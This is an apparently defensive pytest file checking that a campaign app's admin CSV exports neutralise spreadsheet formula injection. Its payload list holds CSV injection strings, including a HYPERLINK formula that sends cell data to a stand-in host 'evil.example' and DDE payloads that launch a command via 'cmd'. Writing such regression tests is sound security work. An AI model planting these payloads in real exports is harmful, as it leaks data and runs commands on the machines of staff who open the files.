"""Every CSV export neutralises cells a spreadsheet would run as a formula.

Found in hardening: the RSVP export (Wagtail's generic CSV export) wrote names from the
public RSVP form as they came, so '=HYPERLINK(...)' ran when staff opened the file.
"""

import csv
import io

import pytest
from django.utils import timezone

from campaigns.mailings.services.starting import materialise_deliveries
from campaigns.models import Signature
from events.models import Rsvp
from subscribers.crypto import lookup_hash
from subscribers.models import MailingList
from tests.campaigns.mailing_fixtures import sending_mailing, subscribe
from tests.factories import (
    CampaignFactory,
    MailingListFactory,
    SuperuserFactory,
    build_event,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def world(home_page):
    event = build_event(title="Know Your Rights", rsvp_mode="internal")
    campaign = CampaignFactory(slug="csv")
    for number, payload in enumerate(PAYLOADS):
        address = f"p{number}@example.org"
        mailing_list = MailingListFactory(name=payload, slug=f"csv-{number}")
        subscribe(address, [mailing_list], name=payload, zip_code="60601")
        Rsvp.objects.create(
            event=event,
            name=payload,
            email=address,
            email_hash=lookup_hash(address),
            status=Rsvp.Status.choices[0][0],
        )
        Signature.objects.create(
            campaign=campaign,
            name=payload,
            email=address,
            email_hash=lookup_hash(address),
            zip_code=payload[:10],
            status=Signature.Status.VERIFIED,
            created_at=timezone.now(),
            verified_at=timezone.now(),
        )
    mailing = sending_mailing(home_page, list(MailingList.objects.all()))
    materialise_deliveries(mailing, ["en"])
    return {"campaign": campaign, "mailing": mailing}


def test_every_csv_export_neutralises_formulas(client, world):
    client.force_login(SuperuserFactory())
    exports = {
        "subscribers": "/admin/subscribers_admin/export/",
        "signatures": f"/admin/campaigns/report/{world['campaign'].pk}/signatures.csv",
        "mailing report": f"/admin/mailings/{world['mailing'].pk}/report.csv",
        "rsvps": "/admin/rsvps/?export=csv",
    }
    for name, path in exports.items():
        response = client.get(path)
        assert response.status_code == 200, name
        body = (
            b"".join(response.streaming_content)
            if response.streaming
            else response.content
        )
        found = cells(body)
        assert any(cell.startswith("'=HYPERLINK") for cell in found), name
        risky = [cell for cell in found if cell.startswith(DANGEROUS)]
        assert risky == [], f"{name} export runs formulas: {risky}"
